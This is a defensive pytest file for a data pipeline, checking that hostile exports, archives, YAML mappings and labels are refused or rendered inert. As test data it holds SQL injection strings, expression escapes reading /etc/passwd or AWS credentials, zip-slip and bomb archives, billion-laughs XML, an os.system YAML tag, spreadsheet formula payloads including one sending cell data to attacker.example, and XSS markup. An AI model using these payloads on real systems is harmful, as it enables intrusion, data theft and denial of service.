"""Exports, archives, mappings and codes that were made to do harm do none."""

from __future__ import annotations

import io
import json
import stat
import zipfile
from dataclasses import replace
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from pipeline.audit import inert_labels
from pipeline.contract import load_contract
from pipeline.errors import AuditError
from pipeline.ingest.expression import FUNCTIONS, NotAllowed, columns_of
from pipeline.ingest.freeze import find_sources
from pipeline.ingest.office import load_office
from pipeline.report.tables import PublicData, write_tables
from tests.report_example import example
from tests.test_export_accidents import archive
from tests.tiny_office import EXPORT, OFFICE_YML, TinyOffice

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
MARKUP = '"><svg onload=alert(1)><script>alert(2)</script><img src=x onerror=alert(3)>'
SQL = """x'); drop table landed.person; -- "; drop table landed.person; --"""


@pytest.fixture
def tiny(tmp_path: Path) -> TinyOffice:
    return TinyOffice(tmp_path)


# --- SQL ----------------------------------------------------------------------------------------------------------


def test_sql_in_headers_cells_codes_and_file_names_is_text(tiny: TinyOffice) -> None:
    header = f'"{SQL.replace(chr(34), chr(34) * 2)}"'
    tiny.write_office(
        OFFICE_YML.replace("unused: {Name:", f"unused: {{{json.dumps(SQL)}: hostile, Name:").replace(
            '"referrals*.csv"', '"ref*"'
        )
    )
    tiny.write_codes("sex", f"source,target,note\nF,female,\n{header},male,{header}\n")
    lines = EXPORT.replace(",M,", f",{header},").replace("Rejected", "Filed").splitlines()
    (tiny.raw / "referrals.csv").unlink()
    export = "\n".join(f"{line},{header}" for line in lines[:3])
    tiny.write_export(export.encode(), "ref'; drop table landed.person; --.csv")
    tiny.land()
    with duckdb.connect(str(tiny.database), read_only=True) as connection:
        assert connection.execute("select sex, sex_raw from landed.person order by _source_row").fetchall() == [
            ("female", "F"),
            ("male", SQL),
        ]


ESCAPES = [
    "(select 1)",
    "exists (select 1)",
    "1); drop table landed.person; --",
    "1 from read_csv('/etc/passwd')",
    "read_text('/etc/passwd')",
    "(from read_text('/etc/passwd'))",
    "query('select 1')",
    "query_table('landed.person')",
    "getvariable('inner_key')",
    "getenv('HOME')",
    "current_setting('temp_directory')",
    "keyed('person', 'x')",
    "now()",
    "random()",
    "uuid()",
    "version()",
    "columns(*)",
    "*",
    "sum(1)",
    "row_number() over ()",
    "list_transform([1], lambda x: x)",
    "nextval('s')",
    "pg_sleep(10)",
    "repeat('x', 1000000000)",
    "range(1000000000)",
    "unnest([1, 2])",
    "$1",
    "?",
    "#1",
    "error('Ann')",
    "(values (1))",
    "landed.person.person_id.x",
    "write_log('x')",
    "load_aws_credentials()",
]


@pytest.mark.parametrize("expression", ESCAPES)
def test_an_expression_reads_one_row_and_nothing_else(expression: str) -> None:
    with pytest.raises(NotAllowed):
        columns_of(expression)


@pytest.mark.parametrize("word", ["current_date", "current_timestamp", "session_user", "localtime"])
def test_a_word_that_could_be_the_clock_or_the_user_is_a_column_that_the_file_must_have(
    word: str, tiny: TinyOffice
) -> None:
    tiny.write_office(OFFICE_YML.replace("referral_id: Ref", f'referral_id: {{sql: "Ref || {word}"}}'))
    with pytest.raises(AuditError, match=rf"IIU201 referrals.csv:1 column \[{word}\]: the column is missing"):
        tiny.land()


@pytest.mark.parametrize("statement", ["attach '/tmp/x.db'", "install httpfs", "load httpfs", "copy t to '/tmp/x'", "set threads = 1", "create table x (a int)"])  # fmt: skip
def test_an_expression_is_no_statement(statement: str) -> None:
    for spelled in (f"1); {statement}; select (1", f"1 {statement}"):
        with pytest.raises(NotAllowed):
            columns_of(spelled)


def test_no_function_that_is_allowed_reaches_a_file_a_setting_or_the_network() -> None:
    """What DuckDB itself says of them: all are scalar, macros of scalars or operators, and consistent but for none."""
    rows = duckdb.execute(
        "select distinct function_name, function_type, has_side_effects from duckdb_functions()"
    ).fetchall()
    known = {name for name, _, _ in rows}
    wrong = {
        (name, kind)
        for name, kind, effects in rows
        if name in FUNCTIONS and (kind not in ("scalar", "macro") or effects) and name not in ("min", "max")
    }
    assert wrong == set()
    assert len(FUNCTIONS & known) > 60


# --- archives, manifests, links -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../referrals.csv", "/etc/referrals.csv", "a/../../referrals.csv", "C:\\referrals.csv", "..\\referrals.csv", "a\nreferrals.csv"])  # fmt: skip
def test_an_archive_with_a_name_that_leads_out_of_it_is_refused(name: str, tiny: TinyOffice) -> None:
    (tiny.raw / "referrals.csv").unlink()
    tiny.write_export(archive((name, EXPORT.encode())), "export.zip")
    before = {path for path in tiny.raw.parent.rglob("*") if path.is_file()}
    with pytest.raises(AuditError, match=r"IIU113 export.zip: holds a name that leads out of the archive"):
        tiny.land()
    after = {path for path in tiny.raw.parent.rglob("*") if path.is_file()}
    assert after == before | {path for path in after if path.is_relative_to(tiny.work)}


def test_an_archive_with_a_link_in_it_is_refused(tiny: TinyOffice) -> None:
    stream = io.BytesIO()
    link = zipfile.ZipInfo("referrals.csv")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(stream, "w") as opened:
        opened.writestr(link, "/etc/passwd")
    (tiny.raw / "referrals.csv").unlink()
    tiny.write_export(stream.getvalue(), "export.zip")
    with pytest.raises(AuditError, match=r"IIU113 export.zip: .*or a link"):
        tiny.land()


def test_a_link_among_the_exports_that_leads_out_of_them_is_refused(tiny: TinyOffice) -> None:
    (tiny.raw / "referrals.csv").unlink()
    (tiny.raw / "referrals.csv").symlink_to(tiny.office / "office.yml")
    with pytest.raises(
        AuditError, match=r"IIU115 referrals.csv: is a link to a folder, to nothing, or out of the exports"
    ):
        tiny.land()


def test_a_bomb_is_refused_before_it_fills_the_disk(tiny: TinyOffice) -> None:
    bomb = archive(("referrals.csv", b"0" * (80 << 20)))
    (tiny.raw / "referrals.csv").unlink()
    tiny.write_export(bomb, "export.zip")
    with pytest.raises(AuditError, match=r"IIU113 export.zip: would grow \d+ times"):
        tiny.land()
    assert sum(path.stat().st_size for path in tiny.work.rglob("*") if path.is_file()) < 1 << 20


def test_a_bomb_of_archives_in_archives_is_refused(tiny: TinyOffice) -> None:
    content = EXPORT.encode()
    for level in range(5):
        content = archive((f"{level}.zip" if level else "referrals.csv", content))
    (tiny.raw / "referrals.csv").unlink()
    tiny.write_export(content, "export.zip")
    with pytest.raises(AuditError, match=r"IIU113 export.zip/.*: holds archives in archives, 4 deep"):
        tiny.land()


def test_a_bomb_of_gzip_is_refused_while_it_is_read(tiny: TinyOffice) -> None:
    import gzip

    tiny.write_export(gzip.compress(EXPORT.encode() + b"\n" * (70 << 20)))
    with pytest.raises(AuditError, match=r"IIU113 referrals.csv: grows more than 250 times"):
        tiny.land()


def workbook_with(part: str, text: str) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Ref"])
    stream, out = io.BytesIO(), io.BytesIO()
    book.save(stream)
    with zipfile.ZipFile(stream) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, text if name == part else old.read(name))
    return out.getvalue()


def test_a_workbook_that_declares_entities_is_refused(tiny: TinyOffice) -> None:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><worksheet>&l9;</worksheet>'
    tiny.write_office(OFFICE_YML.replace("type: csv", "type: xlsx"))
    tiny.write_export(workbook_with("xl/worksheets/sheet1.xml", xml))
    with pytest.raises(AuditError, match=r"IIU113 referrals.csv: declares entities of its own"):
        tiny.land()


def test_a_manifest_is_compared_and_never_followed(tiny: TinyOffice) -> None:
    office = load_office(tiny.office, load_contract())
    for text in ('{"files": [{"path": "../../office/office.yml", "sha256": "0", "bytes": 1}]}', "[]", '{"files": 3}', "\xff", '{"files": [[]]}', '{"files": [{"path": [], "sha256": 1}]}'):  # fmt: skip
        (tiny.raw / "manifest.json").write_text(text, encoding="latin-1")
        with pytest.raises(AuditError, match="IIU118"):
            find_sources(office, tiny.raw, freeze=True, work=tiny.work)
        assert (tiny.raw / "manifest.json").read_text(encoding="latin-1") == text


# --- YAML ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("seed: 7", "seed: !!python/object/apply:os.system ['true']"),
        ("seed: 7", "seed: &a [1]\nnotes: *a"),
        ("seed: 7", "<<: {seed: 7}"),
        ("seed: 7", "? [seed, 7]\n: 7"),
        ("seed: 7", "seed: " + "[" * 3000 + "]" * 3000),
        ("seed: 7", "seed: " + "9" * 5000),
        ("rejected_tolerance: 0.4", "rejected_tolerance: .nan"),
        ("rejected_tolerance: 0.4", "rejected_tolerance: nan"),
        ("rejected_tolerance: 0.4", "rejected_tolerance: 1e400"),
        ("office: tiny", "office: ../../tiny"),
        ("codes: sex", "codes: ../../../etc/passwd"),
        ("seed: 7", "seed: 7\n---\nseed: 8"),
        ("seed: 7", "seed: 7\n\0"),
        ("title: Tiny County", "title: {a: b}"),
    ],
)
def test_yaml_is_values_and_nothing_else(old: str, new: str, tiny: TinyOffice) -> None:
    tiny.write_office(OFFICE_YML.replace(old, new))
    with pytest.raises(AuditError, match=r"IIU10\d office.yml"):
        tiny.land()


def test_a_path_of_the_mapping_finds_no_file_outside_of_the_exports(tiny: TinyOffice) -> None:
    tiny.write_office(OFFICE_YML.replace('"referrals*.csv"', '"../office/office.yml"'))
    with pytest.raises(AuditError, match="IIU110"):
        tiny.land()


# --- what readers open --------------------------------------------------------------------------------------------


def hostile(label: str) -> PublicData:
    """The example county with a stratum, an office and a publisher that carry `label`, as a code of an export could."""
    made = example()

    def renamed(frame: pd.DataFrame) -> pd.DataFrame:
        strata = frame["stratum"].where(frame["stratum"] == "all", label)
        only = frame.assign(stratum=strata).drop_duplicates([c for c in frame if c in ("measure_id", "period", "race", "citizenship", "offence_group", "stratum", "contrast")])  # fmt: skip
        return inert_labels(only)

    return PublicData(
        measures=renamed(made.measures), comparisons=renamed(made.comparisons), catalogue=made.catalogue,
        settings=replace(made.settings, title=label), run=made.run, source={"publisher": label}, synthetic=True,
    )  # fmt: skip


@pytest.mark.parametrize("label", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1"])
def test_no_cell_of_a_published_table_is_a_formula(label: str, tmp_path: Path) -> None:
    frame = inert_labels(pd.DataFrame({"stratum": [label, "all", "felony"], "estimate": [-1.0, 2.0, 3.0]}))
    assert frame["stratum"].tolist() == ["'" + label, "all", "felony"]
    assert frame["estimate"].tolist() == [-1.0, 2.0, 3.0]


def test_a_formula_in_a_code_or_a_title_stays_text_in_csv_and_xlsx(tmp_path: Path) -> None:
    public = hostile(FORMULA)
    write_tables(out=tmp_path, public=public)
    cells = 0
    for path in sorted(tmp_path.glob("*.csv")):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in frame.select_dtypes("object") if path.name != "catalogue.csv" else ():
            texts = frame[column][frame[column].str.contains("HYPERLINK")]
            cells += len(texts)
            assert not texts.str.startswith("=").any()
    assert cells
    for path in sorted(tmp_path.glob("*.xlsx")):
        for sheet in openpyxl.load_workbook(path).worksheets:
            kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
            assert "f" not in kinds, (path.name, sheet.title)


def test_markup_in_a_code_or_a_title_is_shown_and_never_run(tmp_path: Path) -> None:
    from tests.test_report import built

    pages = built(tmp_path / "site", hostile(MARKUP))
    texts = {p: p.read_text(encoding="utf-8") for p in pages.rglob("*") if p.suffix in (".html", ".js") and "static" not in p.parts}  # fmt: skip
    assert sum("alert(2)" in text for text in texts.values()) > 3
    for path, text in texts.items():
        assert "<svg onload" not in text and "<script>alert" not in text and "<img src=x" not in text, path.name
